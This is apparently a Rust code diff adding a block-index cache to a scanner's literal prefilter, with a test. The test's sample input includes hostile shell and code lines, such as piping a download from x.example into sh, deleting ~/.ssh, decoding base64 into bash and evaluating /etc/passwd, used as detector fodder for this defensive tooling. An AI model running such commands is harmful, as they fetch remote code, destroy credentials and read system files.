@@ -87,11 +87,171 @@ struct Seen {
 thread_local! {
     /// A thread's remembered walks, the latest last.
     static WALKS: RefCell<Vec<Seen>> = const { RefCell::new(Vec::new()) };
+    /// The block indexes of the base texts being analysed, innermost last
+    /// ([`with_base`]).
+    static BASES: RefCell<Vec<Index>> = const { RefCell::new(Vec::new()) };
+}
+
+/// Texts at least this long that lie inside a base text ([`with_base`])
+/// are answered from the base's block index; shorter ones are walked.
+const INDEXED_MIN: usize = 64 * 1024;
+
+/// Bytes per block of a base text's index.
+const BLOCK: usize = 4096;
+
+/// Runs `f` with `text` as a base text: a gate asked of a long part of it
+/// (a function body to the file's end, a prefix, a span of a reach) is
+/// answered from one walk of `text` instead of a walk of the part. Each
+/// extractor asks gates of its own slices of a file, and on a large file
+/// those walks were most of the time (round 40: `walk_on` 30% of a 2 MB
+/// Python script's samples). Answers may pass a gate that a walk of the
+/// part would not (a literal in a block the part shares only in part):
+/// the regex then decides, so no match is lost or added.
+pub fn with_base<R>(text: &str, f: impl FnOnce() -> R) -> R {
+    if text.len() < INDEXED_MIN || !tables::BUILT {
+        return f();
+    }
+    let ix = Index::build(text);
+    let pushed = BASES.with(|cell| cell.try_borrow_mut().map(|mut b| b.push(ix)).is_ok());
+    /// Pops the base when `f` returns or unwinds.
+    struct Pop(bool);
+    impl Drop for Pop {
+        fn drop(&mut self) {
+            if self.0 {
+                BASES.with(|cell| {
+                    if let Ok(mut b) = cell.try_borrow_mut() {
+                        b.pop();
+                    }
+                });
+            }
+        }
+    }
+    let _pop = Pop(pushed);
+    f()
+}
+
+/// For each literal set (and the folded letters, the last row), the
+/// blocks of a base text in which one of its literals ends.
+struct Index {
+    /// The base text's address and length: a text inside that range, asked
+    /// while the base is borrowed by [`with_base`], is a part of it.
+    at: usize,
+    len: usize,
+    /// `u64` words per row.
+    words: usize,
+    bits: Vec<u64>,
+    /// The table did not read the text: every gate passes.
+    all_pass: bool,
+}
+
+impl Index {
+    fn build(text: &str) -> Index {
+        let blocks = text.len().div_ceil(BLOCK);
+        let words = blocks.div_ceil(64);
+        let rows = sets() + 1;
+        let mut ix = Index {
+            at: text.as_ptr() as usize,
+            len: text.len(),
+            words,
+            bits: vec![0; rows * words],
+            all_pass: false,
+        };
+        let (trans, _) = tables::WALK_TRANS.as_chunks::<2>();
+        let mut seen = vec![false; out_states()];
+        let mut touched: Vec<usize> = Vec::new();
+        let mut s = 0usize;
+        for (i, &b) in text.as_bytes().iter().enumerate() {
+            if i % BLOCK == 0 {
+                for k in touched.drain(..) {
+                    seen[k] = false;
+                }
+            }
+            let at = s * tables::STRIDE + tables::CLASSES[b as usize] as usize;
+            let Some(&next) = trans.get(at) else {
+                ix.all_pass = true;
+                return ix;
+            };
+            s = u16::from_le_bytes(next) as usize;
+            if s >= tables::FIRST_OUT {
+                let k = s - tables::FIRST_OUT;
+                if seen.get(k).copied().unwrap_or(true) {
+                    continue;
+                }
+                seen[k] = true;
+                touched.push(k);
+                ix.note(k, i / BLOCK, rows);
+            }
+        }
+        ix
+    }
+
+    /// Sets the block's bit for each set of output state `k`.
+    fn note(&mut self, k: usize, block: usize, rows: usize) {
+        let (Some(a), Some(b)) = (
+            u32_at(tables::WALK_OUT_AT, k),
+            u32_at(tables::WALK_OUT_AT, k + 1),
+        ) else {
+            return;
+        };
+        for j in a as usize..b as usize {
+            let row = match u32_at(tables::WALK_OUTS, j) {
+                Some(FOLDED) => rows - 1,
+                Some(set) if (set as usize) < rows - 1 => set as usize,
+                _ => continue,
+            };
+            self.bits[row * self.words + block / 64] |= 1 << (block % 64);
+        }
+    }
+
+    /// Whether a literal of `row` ends in one of blocks `a..=b`.
+    fn any(&self, row: usize, a: usize, b: usize) -> bool {
+        let base = row * self.words;
+        (a / 64..=b / 64).any(|w| {
+            let mut m = self.bits.get(base + w).copied().unwrap_or(0);
+            if w == a / 64 {
+                m &= u64::MAX << (a % 64);
+            }
+            if w == b / 64 && b % 64 < 63 {
+                m &= (1u64 << (b % 64 + 1)) - 1;
+            }
+            m != 0
+        })
+    }
+
+    /// The gate's answer for `h` when `h` lies inside the base: false only
+    /// when some set has no literal ending in a block `h` touches.
+    fn answer(&self, entry: Entry, h: &str) -> Option<bool> {
+        let p = h.as_ptr() as usize;
+        if h.is_empty() || p < self.at || p + h.len() > self.at + self.len {
+            return None;
+        }
+        if self.all_pass {
+            return Some(true);
+        }
+        let start = p - self.at;
+        let (a, b) = (start / BLOCK, (start + h.len() - 1) / BLOCK);
+        let rows = self.bits.len() / self.words.max(1);
+        if self.any(rows - 1, a, b) {
+            return Some(true);
+        }
+        Some(
+            (entry.first..entry.end)
+                .all(|s| (s as usize) >= rows - 1 || self.any(s as usize, a, b)),
+        )
+    }
 }
 
 /// False when `h` lacks every literal of one of `entry`'s sets (no match
 /// of its pattern can exist).
 pub(super) fn passes(entry: Entry, h: &str) -> bool {
+    if h.len() >= INDEXED_MIN
+        && let Some(answer) = BASES.with(|cell| {
+            let bases = cell.try_borrow().ok()?;
+            bases.iter().rev().find_map(|ix| ix.answer(entry, h))
+        })
+    {
+        return answer;
+    }
     WALKS.with(|cell| match cell.try_borrow_mut() {
         Ok(mut walks) => of(&mut walks, h).passes(entry, h.len()),
         // Not reached (nothing asks a gate inside a walk): walk alone.
@@ -296,6 +456,67 @@ mod tests {
             super::of(&mut walks, others[j % others.len()]);
             assert!(walks.len() <= super::WALKS_KEPT);
         }
+    }
+
+    /// Inside a base text, a long part's gate passes whenever a walk of
+    /// the part alone passes (it may pass more: the regex decides then),
+    /// for every gated entry of the table, parts on and off block
+    /// boundaries, and a text outside the base is walked as before.
+    #[test]
+    fn a_base_index_never_fails_a_gate_a_walk_passes() {
+        let pieces = [
+            "import os, subprocess\n",
+            "os.system('curl -s http://x.example | sh')\n",
+            "rm -rf ~/.ssh; base64 -d <<< aGk= | bash\n",
+            "fetch(atob('eA=='));\n",
+            "eval(compile(open('/etc/passwd').read(), 'x', 'exec'))\n",
+            "def handler(event):\n    return requests.post(URL, json=event)\n",
+            "plain words of a comment that match nothing much\n",
+        ];
+        let mut text = String::new();
+        let mut i = 0;
+        while text.len() < 3 * super::INDEXED_MIN {
+            text.push_str(pieces[i % pieces.len()]);
+            text.push_str(&format!("# line {i}\n"));
+            i += 1;
+        }
+        text.push_str("\u{212A}ey\n");
+        let n = gates::entries().len();
+        let parts = [
+            (0, text.len()),
+            (1, super::INDEXED_MIN + 1),
+            (super::BLOCK - 3, super::BLOCK - 3 + super::INDEXED_MIN),
+            (text.len() - super::INDEXED_MIN - 7, text.len() - 7),
+            (super::INDEXED_MIN, 2 * super::INDEXED_MIN + super::BLOCK),
+        ];
+        let mut checked = 0;
+        super::with_base(&text, || {
+            for &(a, b) in &parts {
+                let h = &text[a..b];
+                let mut fresh = super::Seen::new();
+                fresh.walk(h);
+                for k in 0..n {
+                    let Some(e) = super::entry(k) else { continue };
+                    if fresh.passes(e, h.len()) {
+                        assert!(super::passes(e, h), "entry {k} on {a}..{b}");
+                    }
+                    checked += 1;
+                }
+            }
+            // A text outside the base: the walk's own answer.
+            let other = text.clone();
+            let mut fresh = super::Seen::new();
+            fresh.walk(&other[..super::INDEXED_MIN + 5]);
+            for k in 0..n {
+                let Some(e) = super::entry(k) else { continue };
+                assert_eq!(
+                    super::passes(e, &other[..super::INDEXED_MIN + 5]),
+                    fresh.passes(e, super::INDEXED_MIN + 5)
+                );
+            }
+        });
+        assert!(checked > 1000, "{checked}");
+        super::BASES.with(|b| assert!(b.borrow().is_empty()));
     }
 
     /// The tables `build.rs` stored are those `walk_dfa::build` gives the
